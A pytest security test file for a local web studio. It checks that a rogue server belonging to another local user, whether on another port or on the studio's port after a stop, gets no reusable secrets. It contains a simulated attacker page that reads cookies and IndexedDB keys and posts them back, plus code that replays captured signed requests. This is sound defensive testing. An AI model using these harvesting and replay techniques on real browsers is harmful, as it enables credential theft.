"""Another user on the same machine learns nothing from the owner's browser (issue 21, item 1).

Browsers share cookies across every port of 127.0.0.1, and after a stop anyone may bind the studio's own
port. The other user here is `nobody` (the tests run as root in CI), running a plain HTTP server that
records every request it receives. It is opened by the logged-in owner on another port, and it takes the
studio's port after a stop while the owner's tab is open. Neither ever receives the token, the page's key
or a login code, and every signed request it caught is refused by the real studio when that comes back.
"""

from __future__ import annotations

import json
import os
import signal
import subprocess
import threading
import time
from pathlib import Path
from typing import Any

import httpx
import pytest
from slurm_cluster import in_ci
from support import free_port, home_env, wait_for

from ftstudio.web.signing import b64, login_code, page_key

from .livestudio import LiveStudio

pytestmark = pytest.mark.browser
NOBODY = 65534

# The other user's server: answers `/` with a page that looks for the studio's secrets in this origin,
# `/api/hello` with a made-up proof, anything else with `{}`; prints each request as a JSON line.
SQUATTER = r"""
import http.server, json, sys
host, port = sys.argv[1], int(sys.argv[2])
PAGE = b'''<!doctype html><script>
(async () => {
  const found = {cookie: document.cookie, keys: []};
  await new Promise((done) => {
    const open = indexedDB.open("ftstudio");
    open.onerror = () => done();
    open.onsuccess = () => {
      const db = open.result;
      if (!db.objectStoreNames.contains("keys")) return done();
      const all = db.transaction("keys").objectStore("keys").getAllKeys();
      all.onsuccess = () => { found.keys = all.result; done(); };
      all.onerror = () => done();
    };
  });
  await fetch("/report", {method: "POST", body: JSON.stringify(found)});
  document.title = "done";
})();
</script>'''

class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def record(self):
        length = int(self.headers.get("content-length") or 0)
        body = self.rfile.read(length).decode("latin-1") if length else ""
        line = {"method": self.command, "path": self.path, "headers": dict(self.headers.items()), "body": body}
        print(json.dumps(line), flush=True)

    def answer(self, ctype, body):
        self.send_response(200)
        self.send_header("Content-Type", ctype)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self):
        self.record()
        if self.path == "/":
            return self.answer("text/html", PAGE)
        if self.path.startswith("/api/hello"):
            fake = {"epoch": "x" * 22, "time": "1", "proof": "y" * 43}
            return self.answer("application/json", json.dumps(fake).encode())
        self.answer("application/json", b"{}")

    do_POST = do_DELETE = do_PUT = do_PATCH = do_GET

    def log_message(self, *args):
        pass

server = http.server.ThreadingHTTPServer((host, port), Handler)
print(json.dumps({"listening": port}), flush=True)
server.serve_forever()
"""


class Squatter:
    """The other user's server, as `nobody`, on host:port; `requests` is what it has received."""

    def __init__(self, host: str, port: int) -> None:
        self.port = port
        self.requests: list[dict[str, Any]] = []
        self.report: dict[str, Any] | None = None

        def drop() -> None:
            os.setgroups([])
            os.setgid(NOBODY)
            os.setuid(NOBODY)

        python = "/usr/bin/python3" if os.path.exists("/usr/bin/python3") else "python3"
        self.proc = subprocess.Popen(
            [python, "-I", "-c", SQUATTER, host, str(port)],
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
            preexec_fn=drop,
        )
        assert self.proc.stdout is not None
        first = self.proc.stdout.readline()
        assert json.loads(first or "{}").get("listening") == port, (first, self.proc.stderr.read())  # type: ignore[union-attr]
        self.reader = threading.Thread(target=self._read, daemon=True)
        self.reader.start()

    def _read(self) -> None:
        assert self.proc.stdout is not None
        for line in self.proc.stdout:
            request = json.loads(line)
            self.requests.append(request)
            if request["path"] == "/report":
                self.report = json.loads(request["body"])

    def hellos(self) -> int:
        return sum(r["path"].startswith("/api/hello") for r in self.requests)

    def close(self) -> None:
        if self.proc.poll() is None:
            self.proc.terminate()
            self.proc.wait(timeout=10)
        self.reader.join(timeout=5)
        for pipe in (self.proc.stdout, self.proc.stderr):
            if pipe is not None:
                pipe.close()


@pytest.fixture
def as_root() -> None:
    if os.geteuid() != 0:
        if in_ci():
            pytest.fail("CI runs the tests as root, to act as another user", pytrace=False)
        pytest.skip("acting as another user takes root")


def secrets_of(studio: LiveStudio) -> list[str]:
    """Everything that would let its holder act as the owner: the token, the page key, the login code."""
    epoch = json.loads((studio.home / "studio.json").read_text())["epoch"]
    return [studio.token, b64(page_key(studio.token)), login_code(studio.token, epoch)]


def leaked(squatter: Squatter, secrets: list[str]) -> list[str]:
    dump = json.dumps(squatter.requests)
    return [s[:6] + "…" for s in secrets if s in dump]


def signed(request: dict[str, Any]) -> bool:
    auth = {k.lower(): v for k, v in request["headers"].items()}.get("authorization", "")
    return auth.startswith("ftstudio ") or "_auth=" in request["path"]


def replay_headers(headers: dict[str, str]) -> dict[str, str]:
    skip = {"content-length", "connection", "transfer-encoding", "accept-encoding"}
    return {k: v for k, v in headers.items() if k.lower() not in skip and not k.startswith(":")}


def log_in(browser: Any, studio: LiveStudio, fragment: str) -> tuple[Any, Any]:
    context = browser.new_context()
    page = context.new_page()
    page.goto(studio.page_url(fragment))
    return context, page


def test_a_page_on_another_port_gets_nothing_reusable(browser: Any, scripted: LiveStudio, as_root: None) -> None:
    studio = scripted.start()
    context, page = log_in(browser, studio, "#/tasks")
    squatter = Squatter("127.0.0.1", free_port())
    try:
        page.locator("#studio-version").wait_for()
        assert "login=" not in page.url and context.cookies() == []  # no cookie for any port to receive
        # The key is this origin's alone, and not even the page's own script can read it out.
        extractable = page.evaluate(
            """() => new Promise((done) => {
                 const open = indexedDB.open("ftstudio");
                 open.onsuccess = () => {
                   const get = open.result.transaction("keys").objectStore("keys").get("page");
                   get.onsuccess = () => crypto.subtle.exportKey("raw", get.result)
                     .then(() => done("exported"), () => done(String(get.result.extractable)));
                 };
               })"""
        )
        assert extractable == "false"
        evil = context.new_page()  # the owner opens the other user's page, same browser
        evil.goto(f"http://127.0.0.1:{squatter.port}/")
        evil.wait_for_function("document.title === 'done'", timeout=20_000)
        wait_for(lambda: squatter.report is not None, timeout=10, what="the other page's report")
    finally:
        squatter.close()
        context.close()
    assert squatter.report == {"cookie": "", "keys": []}, squatter.report
    assert not leaked(squatter, secrets_of(studio))
    assert not any(k.lower() == "cookie" for r in squatter.requests for k in r["headers"])


def test_a_server_that_takes_the_port_after_a_stop_gets_nothing_it_can_replay(
    browser: Any, scripted: LiveStudio, as_root: None, tmp_path: Path
) -> None:
    studio = scripted.start()
    task = studio.api(
        "POST", "/api/tasks", {"name": "scripted steps=100000 delay=0.05", "config": {"preset": "cpu-demo"}}
    )
    studio.wait_status(task["id"], "training")
    secrets = secrets_of(studio)
    sent: list[dict[str, Any]] = []  # the signed requests the tab sent while the studio ran

    def keep(request: Any) -> None:
        headers = request.headers
        if headers.get("authorization", "").startswith("ftstudio "):
            sent.append({"method": request.method, "url": request.url, "headers": headers, "body": request.post_data})

    context = browser.new_context()
    context.on("request", keep)
    page = context.new_page()
    page.goto(studio.page_url(f"#/tasks/{task['id']}"))
    squatter = None
    try:
        page.locator("#connection[data-state='live']").wait_for(timeout=30_000)
        page.locator("#studio-version").wait_for()
        assert sent, "the page sent no signed request"
        studio.kill(signal.SIGTERM)  # `studio stop`: training goes on, the port is free
        squatter = Squatter("127.0.0.1", studio.port)
        # The tab notices, asks whoever answers now to prove itself, and gets no proof (again and again).
        wait_for(lambda: squatter.hellos() >= 2, timeout=40, what="the tab to say hello to the squatter")
        time.sleep(1)
        first_hello = next(i for i, r in enumerate(squatter.requests) if r["path"].startswith("/api/hello"))
        assert not any(signed(r) for r in squatter.requests[first_hello:]), "signed after a failed hello"
        assert page.locator("#connection[data-state='live']").count() == 0
        squatter.close()
        caught = [r for r in squatter.requests if signed(r)]

        back = LiveStudio(studio.home, studio.port)
        back.env = home_env(studio.home, scripted=True)
        back.start()
        try:
            # Whatever the other user caught, and whatever the tab sent before the stop, is refused now.
            with httpx.Client(base_url=back.url, timeout=10) as raw:
                for r in caught:
                    answer = raw.request(
                        r["method"],
                        r["path"],
                        headers=replay_headers(r["headers"]),
                        content=r["body"].encode("latin-1"),
                    )
                    assert answer.status_code == 401, (r["path"], answer.status_code, answer.text)
                for r in sent:
                    answer = raw.request(r["method"], r["url"], headers=replay_headers(r["headers"]), content=r["body"])
                    assert answer.status_code == 401, (r["url"], answer.status_code, answer.text)
            assert back.task(task["id"])["status"] == "training"
            # The owner's tab finds its studio again by itself: it proves itself, and the stream is live.
            page.locator("#connection[data-state='live']").wait_for(timeout=40_000)
        finally:
            back.stop()
    finally:
        if squatter is not None:
            squatter.close()
        context.close()
    assert squatter is not None and not leaked(squatter, secrets)
